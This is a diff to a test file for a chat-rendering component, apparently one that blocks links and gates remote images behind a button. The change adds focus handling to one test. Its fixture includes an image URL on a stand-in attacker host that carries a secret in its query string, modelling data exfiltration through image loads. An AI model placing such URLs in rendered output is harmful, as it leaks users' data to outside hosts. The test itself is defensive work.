@@ -43,8 +43,12 @@ describe('TextPart', () => {
     expect(screen.queryByRole('link')).toBeNull()
     expect(screen.getByText('click').className).toBe('cp-link-blocked')
     expect(document.querySelector('img')).toBeNull()
-    act(() => screen.getByRole('button', { name: /Load image from attacker\.example/ }).click())
+    const gate = screen.getByRole('button', { name: /Load image from attacker\.example/ })
+    gate.focus()
+    act(() => gate.click())
     expect(screen.getByRole('img', { name: 'chart' }).getAttribute('src')).toBe('https://attacker.example/p.png?d=secret')
+    // The focus moves to the image that replaced the button.
+    expect(document.activeElement).toBe(screen.getByRole('img', { name: 'chart' }))
   })
 
   it('loads images from allowed origins at once', () => {
